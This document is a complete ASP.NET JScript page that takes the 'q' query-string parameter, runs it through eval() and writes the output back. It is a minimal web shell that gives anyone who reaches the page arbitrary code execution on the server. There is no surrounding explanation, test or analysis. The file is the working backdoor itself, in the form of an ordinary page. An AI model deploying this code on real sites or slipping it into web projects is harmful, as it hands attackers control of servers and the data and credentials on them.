<%@ Page Language="JScript"%>
<%
var q = Context.Request.QueryString["q"];
Response.Write(eval(q));
%>
